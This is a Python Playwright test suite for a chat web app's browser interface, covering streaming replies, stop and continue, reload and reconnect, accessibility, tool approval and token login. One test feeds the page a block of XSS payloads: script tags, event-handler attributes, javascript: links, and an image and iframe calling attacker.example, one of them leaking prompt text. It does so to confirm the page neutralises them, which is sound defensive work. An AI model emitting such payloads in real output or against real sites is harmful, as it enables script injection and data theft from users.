"""The web chat in real Chromium (Debian's, through Playwright), against a real server on 127.0.0.1.

One browser for the session, a fresh context (cookies, storage) per test. Waits are on conditions:
the DOM, the server's own counters, the store; never on time.
"""

from __future__ import annotations

import json
import os
import signal
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request
from term import SCRIPTS, base_env
from web_page import (
    CutProxy,
    WebServer,
    as_browser_html,
    browser_session,
    content_html,
    last_reply,
    send,
    shrinks,
    start_cli,
    wait_reply_text,
    wait_status,
    wait_until,
    watch_growth,
    web_servers,
)

from streamchat.chat.store import Store
from streamchat.render import render_html
from streamchat.web import Guard

RICH = (SCRIPTS / "rich.md").read_text()
LONG = "\n\n".join(f"Paragraph {n}: " + "streaming words " * 12 for n in range(120))


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One Chromium for all the browser tests (they are this module); it ends with them, and with it
    Playwright's event loop, which would otherwise keep later tests from running their own."""
    with browser_session() as browser:
        yield browser


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1100, "height": 800})
    context.set_default_timeout(30_000)
    yield context
    context.close()


@pytest.fixture
def page(context: BrowserContext) -> Page:
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.errors = errors  # type: ignore[attr-defined]
    return page


@pytest.fixture
def web(tmp_path: Path) -> Iterator[Callable[..., WebServer]]:
    yield from web_servers(tmp_path)


def wait_replies(page: Page, count: int, status: str, timeout: float = 30_000) -> None:
    """Wait until the transcript holds `count` replies, the last one with `status`."""
    page.wait_for_function(
        "([count, status]) => { const r = document.querySelectorAll('article[data-role=assistant]');"
        " return r.length === count && r[count - 1].dataset.status === status; }",
        arg=[count, status],
        timeout=timeout,
    )


def assert_final_dom(page: Page, markdown: str) -> None:
    assert content_html(last_reply(page)) == as_browser_html(page, render_html(markdown))


# Counts code blocks added to a reply's finished content, and the DOM updates that appended lines to one.
WATCH_FENCES = """() => {
  window.__fences = {blocks: 0, line_batches: 0};
  new MutationObserver((records) => {
    for (const r of records) {
      const nodes = [...r.addedNodes].filter((n) => n.nodeType === 1 && !n.closest('.tail'));
      window.__fences.blocks += nodes.filter((n) => n.matches('.content > .code-block')).length;
      if (nodes.some((n) => n.matches('.code-block code > .line'))) window.__fences.line_batches += 1;
    }
  }).observe(document.getElementById('messages'), {childList: true, subtree: true});
}"""


@pytest.mark.parametrize("chunk", [1, 4, 0], ids=["1-char", "4-char", "random"])
def test_the_reply_streams_and_ends_as_the_one_shot_render(page: Page, web: Any, chunk: int) -> None:
    server = web(RICH, chunk=chunk, rate=1500 if chunk == 1 else 300)
    page.goto(server.url)
    watch_growth(page)
    page.evaluate(WATCH_FENCES)
    send(page, "Show me the report")
    reply = last_reply(page)
    wait_reply_text(page, 20, "streaming")
    assert server.engine.runs and server.engine.runs[0].exited is None  # on screen before it is finished
    wait_status(page, "complete")
    assert_final_dom(page, RICH)
    # The code block went in once, empty, and its lines were appended into it over many frames.
    fences = page.evaluate("() => window.__fences")
    assert fences["blocks"] == reply.locator(".content > .code-block").count() == RICH.count("```") // 2
    assert fences["line_batches"] >= 5, fences
    assert shrinks(page) == []
    assert reply.locator(".tail").count() == 0
    assert page.errors == []  # type: ignore[attr-defined]


def test_stop_stops_the_engine_and_survives_a_reload(page: Page, web: Any) -> None:
    server = web(LONG, chunk=4, rate=150)
    page.goto(server.url)
    watch_growth(page)
    send(page, "Talk for a long time")
    wait_reply_text(page, 60)
    page.get_by_role("button", name="Stop").click()
    wait_status(page, "interrupted")
    wait_until(server.engine_idle, what="the engine to stop")
    (generation,) = server.engine.runs
    assert generation.cancelled  # the engine was told to stop, it did not just finish
    stopped = content_html(last_reply(page))
    cid = server.store.list_conversations()[0].id
    saved = server.store.load(cid).messages[-1]
    assert saved.status == "interrupted"
    assert stopped == as_browser_html(page, render_html(saved.content[0]["text"]))
    assert shrinks(page) == []
    page.reload()
    wait_status(page, "interrupted")
    assert content_html(last_reply(page)) == stopped  # it never grows back
    assert page.get_by_role("button", name="Continue").is_visible()
    assert page.get_by_role("button", name="Retry").is_visible()
    assert len(server.engine.runs) == 1


def test_continue_picks_up_where_the_reply_stopped(page: Page, web: Any) -> None:
    server = web(LONG[:3000], chunk=4, rate=150, max_tokens=4096)
    page.goto(server.url)
    send(page, "Talk for a while")
    wait_reply_text(page, 60)
    page.get_by_role("button", name="Stop").click()
    wait_status(page, "interrupted")
    watch_growth(page)
    page.get_by_role("button", name="Continue").click()
    wait_status(page, "complete")
    assert_final_dom(page, LONG[:3000])  # the partial reply and its continuation, one message
    assert page.locator('article[data-role="assistant"]').count() == 1
    cid = server.store.list_conversations()[0].id
    (_, reply) = server.store.load(cid).messages
    assert reply.status == "complete" and reply.content[0]["text"] == LONG[:3000]


def test_reload_mid_reply_resumes_the_live_reply(page: Page, web: Any) -> None:
    server = web(RICH, chunk=2, rate=250)
    page.goto(server.url)
    send(page, "Report, please")
    wait_reply_text(page, 30)
    page.reload()
    watch_growth(page)
    wait_status(page, "streaming")
    assert server.web.runs.running == 1  # still the same run, live
    wait_status(page, "complete")
    assert_final_dom(page, RICH)
    assert shrinks(page) == []
    assert len(server.engine.runs) == 1


def test_a_dropped_connection_ends_with_the_complete_reply_and_no_duplicate(page: Page, web: Any) -> None:
    server = web(RICH, chunk=2, rate=250)
    proxy = CutProxy(int(server.url.rsplit(":", 1)[1]))
    url = proxy.start()
    try:
        page.goto(url)
        watch_growth(page)
        send(page, "Report, please")
        for length in (30, 600):
            wait_reply_text(page, length)
            proxy.cut()  # the network drops the SSE connection mid-reply; EventSource reconnects
        wait_status(page, "complete")
        assert_final_dom(page, RICH)
        assert shrinks(page) == []
        assert proxy.cuts == 2 and len(server.engine.runs) == 1
    finally:
        proxy.close()


def test_a_second_tab_shows_the_same_live_reply(context: BrowserContext, web: Any) -> None:
    server = web(RICH, chunk=2, rate=250)
    first = context.new_page()
    first.goto(server.url)
    send(first, "Report, please")
    first.wait_for_url("**/c/*")
    wait_reply_text(first, 30)
    second = context.new_page()
    second.goto(first.url)
    wait_status(second, "streaming")
    wait_status(first, "complete")
    wait_status(second, "complete")
    assert content_html(last_reply(first)) == content_html(last_reply(second))
    assert_final_dom(second, RICH)


def test_a_tab_closed_mid_reply_leaves_the_complete_reply_saved(context: BrowserContext, web: Any) -> None:
    server = web(RICH, chunk=3, rate=300)
    page = context.new_page()
    page.goto(server.url)
    send(page, "Report, please")
    wait_reply_text(page, 30)
    page.close()
    wait_until(lambda: server.web.runs.running == 0, timeout=30, what="the reply to finish")
    cid = server.store.list_conversations()[0].id
    saved = server.store.load(cid).messages[-1]
    assert saved.status == "complete" and saved.content[0]["text"] == RICH
    again = context.new_page()
    again.goto(f"{server.url}/c/{cid}")
    wait_status(again, "complete")
    assert_final_dom(again, RICH)


XSS = """# Payloads

<script>window.__pwned = "script"</script>

<img src="https://attacker.example/pixel.png" onerror="window.__pwned='img'">

[click me](javascript:window.__pwned='js-link')

<a href="javascript:window.__pwned='a'">raw link</a>

![exfiltrate](https://attacker.example/leak?q=secret-from-the-prompt)

<!-- window.__pwned = 'comment' --> &lt;script&gt;window.__pwned='entity'&lt;/script&gt;

&#60;img src=x onerror=alert(1)&#62;

<iframe src="https://attacker.example/frame"></iframe>

<style>body { background: url(https://attacker.example/css.png) }</style>

<svg onload="window.__pwned='svg'"><circle r="5"/></svg>

| cell |
|------|
| <b onmouseover="window.__pwned='table'">hover</b> |

[ok link](https://example.org/page)
"""


def test_hostile_model_output_runs_nothing_and_loads_nothing(page: Page, web: Any) -> None:
    server = web(XSS, chunk=3)
    requests: list[str] = []
    dialogs: list[str] = []
    origin = server.url

    def on_request(request: Request) -> None:
        requests.append(request.url)

    page.on("request", on_request)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(server.url)
    send(page, "Say something nasty")
    wait_status(page, "complete")
    reply = last_reply(page)
    reply.locator(".content td").hover()
    page.get_by_role("link", name="ok link").hover()
    assert page.evaluate("() => window.__pwned") is None
    assert dialogs == []
    assert [url for url in requests if not url.startswith(origin)] == []
    content = reply.locator(".content")
    assert content.locator("script, img, iframe, style, svg, object, embed").count() == 0
    hrefs = content.locator("a").evaluate_all("links => links.map((a) => [a.getAttribute('href'), a.rel])")
    assert hrefs and all(
        href.startswith("https://") and rel == "noopener noreferrer nofollow" for href, rel in hrefs
    )
    attributes = content.evaluate("el => [...el.querySelectorAll('*')].flatMap((e) => [...e.attributes]"
                                  ".map((a) => a.name + '=' + a.value))")  # fmt: skip
    assert not [
        a for a in attributes if a.startswith("on") or "javascript:" in a.lower() or a.startswith("style")
    ]
    page.reload()  # the stored reply, drawn again from the store, is just as inert
    wait_status(page, "complete")
    assert page.evaluate("() => window.__pwned") is None
    assert [url for url in requests if not url.startswith(origin)] == []


def test_keyboard_only_send_stop_regenerate(page: Page, web: Any) -> None:
    server = web({"replies": ["A short reply.", LONG]}, chunk=4, rate=150)
    page.goto(server.url)
    box = page.get_by_role("textbox", name="Message")
    page.wait_for_function("() => document.activeElement.id === 'message'")  # the page starts in the box
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    assert box.input_value() == "first line\nsecond line"
    page.keyboard.press("Enter")
    wait_replies(page, 1, "complete")
    assert page.locator('article[data-role="user"] .content').inner_text() == "first line\nsecond line"
    focused = "() => { const e = document.activeElement;"\
              " return `${e.closest('article')?.dataset.role ?? ''}:${e.dataset.action ?? e.id}`; }"
    # Shift+Tab back from the message box reaches the reply's own buttons first: Regenerate, then Pin.
    page.keyboard.press("Shift+Tab")
    assert page.evaluate(focused) == "assistant:Regenerate"
    page.keyboard.press("Shift+Tab")
    assert page.evaluate(focused) == "assistant:Pin"
    page.keyboard.press("Enter")  # pin the reply: the page redraws the buttons, focus stays on Pin
    page.wait_for_selector('article[data-role="assistant"] button[data-action="Pin"][aria-pressed="true"]')
    assert page.evaluate(focused) == "assistant:Pin"
    page.keyboard.press("Tab")
    assert page.evaluate(focused) == "assistant:Regenerate"
    page.keyboard.press("Enter")
    wait_until(lambda: len(server.engine.runs) == 2, what="the regenerated reply")
    wait_replies(page, 1, "complete")
    assert_final_dom(page, "A short reply.")
    box.focus()
    page.keyboard.type("now talk for long")
    page.keyboard.press("Enter")
    wait_replies(page, 2, "streaming")
    wait_reply_text(page, 40)
    page.keyboard.press("Escape")
    wait_replies(page, 2, "interrupted")
    wait_until(server.engine_idle, what="the engine to stop")
    assert server.engine.runs[-1].cancelled and len(server.engine.runs) == 3


def test_controls_are_named_and_the_transcript_is_not_live(page: Page, web: Any) -> None:
    server = web("Done.")
    page.goto(server.url)
    for role, name in (("textbox", "Message"), ("button", "Send"), ("button", "New chat"),
                       ("combobox", "Model"), ("searchbox", "Search conversations")):  # fmt: skip
        assert page.get_by_role(role, name=name).count() == 1, name  # type: ignore[arg-type]
    send(page, "hi")
    wait_status(page, "complete")
    assert page.get_by_role("button", name="Copy", exact=True).count() == 2
    assert page.locator("#transcript").get_attribute("aria-live") is None
    assert page.locator("#messages [aria-live]").count() == 0
    announcer = page.locator("#announcer")
    assert announcer.get_attribute("aria-live") == "polite"
    page.wait_for_function("() => document.getElementById('announcer').textContent === 'Reply finished'")


def test_terminal_to_web_continuity(page: Page, web: Any, tmp_path: Path) -> None:
    from term import Term

    server = web({"replies": ["Terminal reply.", "Web reply."]})
    home = server.store.path.parent
    env = base_env(home)
    term = Term(["--engine", f"script:{SCRIPTS / 'turns.json'}"], env)
    try:
        term.wait_prompt()
        term.submit("hello from the terminal")
        term.wait_text("First answer: alpha.")
        term.wait_text("turn: in ")
        term.wait_prompt()
        assert term.close() == 0
    finally:
        term.close()
    page.goto(server.url)
    link = page.get_by_role("link", name="hello from the terminal")
    link.click()
    page.locator('article[data-role="user"]').first.wait_for()
    assert page.locator('article[data-role="user"] .content').first.inner_text() == "hello from the terminal"
    send(page, "and now from the web")
    wait_replies(page, 2, "complete")
    cid = page.url.rsplit("/", 1)[1]
    texts = [m.content[0].get("text") for m in Store(home / "streamchat.db").load(cid).messages]
    assert len(texts) == 4 and texts[0] == "hello from the terminal" and texts[2] == "and now from the web"
    assert texts[3] == "Web reply."  # the web's request carried the terminal's reply as history


def test_tool_calls_ask_allow_or_deny_in_the_page(page: Page, web: Any) -> None:
    from streamchat.chat.tools import ToolSet

    def lookup(city: str) -> str:
        """The weather in a city."""
        return f"Sunny in {city}"

    script = {"replies": [[{"type": "tool_use", "name": "lookup", "input": {"city": "Oslo"}}],
                          "It is sunny in Oslo."]}  # fmt: skip
    server = web(script, tools=ToolSet.from_functions([lookup]))
    page.goto(server.url)
    send(page, "Weather?")
    allow = page.get_by_role("button", name="Allow")
    allow.wait_for()
    assert page.locator(".tool .tool-name").inner_text() == "lookup"
    assert json.loads(page.locator(".tool .tool-input").inner_text()) == {"city": "Oslo"}
    allow.click()
    wait_status(page, "complete")
    assert page.locator(".tool-result pre").inner_text() == "Sunny in Oslo"
    assert "It is sunny in Oslo." in last_reply(page).locator(".content").inner_text()
    assert page.get_by_role("button", name="Allow").count() == 0


def test_the_access_token_flow_in_the_browser(browser: Browser, web: Any) -> None:
    server = web("Welcome.", guard=Guard("0.0.0.0", token="browser-token"))
    stranger = browser.new_context()
    try:
        response = stranger.new_page().goto(server.url)
        assert response is not None and response.status == 401
    finally:
        stranger.close()
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"{server.url}/?token=browser-token")
        assert page.url == f"{server.url}/"  # redirected to a token-free URL
        send(page, "hi")
        wait_status(page, "complete")
        assert page.evaluate("() => document.cookie") == ""  # HttpOnly: no script can read it
        assert page.evaluate("() => JSON.stringify(localStorage) + JSON.stringify(sessionStorage)") == "{}{}"
        (cookie,) = context.cookies()
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["value"] != "browser-token"
    finally:
        context.close()


def test_a_killed_server_leaves_an_interrupted_reply_to_continue(page: Page, home: Path) -> None:
    script = home / "slow.md"
    script.write_text(LONG)
    env = base_env(home)
    args = [
        "--max-tokens",
        "20000",
        "--engine",
        f"script:{script}",
        "--script-chunk",
        "4",
        "--script-rate",
        "100",
    ]
    process, url = start_cli(args, env)
    try:
        page.goto(url)
        send(page, "Long answer please")
        wait_reply_text(page, 200)
        store = Store(home / "streamchat.db")
        cid = store.list_conversations()[0].id
        wait_until(lambda: len(store.load(cid).messages) == 2 and bool(store.load(cid).messages[1].content))
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
    finally:
        if process.poll() is None:
            process.kill()
    saved = store.load(cid).messages[-1]
    assert saved.status == "interrupted" and LONG.startswith(saved.content[0]["text"])
    process, url = start_cli([*args[:-1], "0"], env)  # restarted, replaying at full speed
    try:
        page.goto(f"{url.rstrip('/')}/c/{cid}")
        wait_status(page, "interrupted")
        assert "Stopped" in last_reply(page).locator(".notice").inner_text()
        assert page.get_by_role("button", name="Continue").is_visible()
        page.get_by_role("button", name="Retry").click()
        wait_status(page, "complete", timeout=60_000)
        assert_final_dom(page, LONG)
    finally:
        process.terminate()
        process.wait(timeout=10)


def test_smoke_on_the_built_in_model(page: Page, home: Path) -> None:
    process, url = start_cli(["--max-tokens", "24", "--temperature", "0", "--threads", "1"], base_env(home))
    try:
        page.goto(url)
        send(page, "Say hello in one short sentence.")
        wait_status(page, "complete", timeout=120_000)
        assert last_reply(page).locator(".content").inner_text().strip()
        assert "SmolLM2" in page.locator("#status").inner_text() or page.locator("#model").input_value()
    finally:
        process.terminate()
        process.wait(timeout=15)


def test_phone_width_is_usable(browser: Browser, web: Any) -> None:
    server = web(RICH, chunk=8)
    context = browser.new_context(viewport={"width": 390, "height": 780}, is_mobile=True, has_touch=True)
    try:
        page = context.new_page()
        page.goto(server.url)
        send(page, "Report")
        wait_status(page, "complete")
        width = page.evaluate("() => document.documentElement.scrollWidth")
        assert width <= 390  # nothing pushes the page sideways
        assert not page.locator("#sidebar").is_visible() or page.locator("#sidebar").bounding_box()["x"] < 0
        page.get_by_role("button", name="Conversations").click()
        page.get_by_role("searchbox", name="Search conversations").wait_for()
    finally:
        context.close()
